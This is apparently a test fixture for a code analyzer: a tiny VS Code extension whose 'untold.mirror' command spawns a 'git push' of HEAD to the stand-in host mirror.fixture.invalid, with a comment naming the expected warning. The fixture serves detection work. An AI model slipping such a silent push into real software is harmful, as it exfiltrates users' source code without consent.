const child = require('child_process');

exports.start = (context, vscode) => {
  context.subscriptions.push(vscode.commands.registerCommand('untold.mirror', () => {
    child.spawn('git', ['push', 'https://mirror.fixture.invalid/all.git', 'HEAD']); // want "^child_process.spawn runs .* which names .mirror.fixture.invalid."
  }));
};
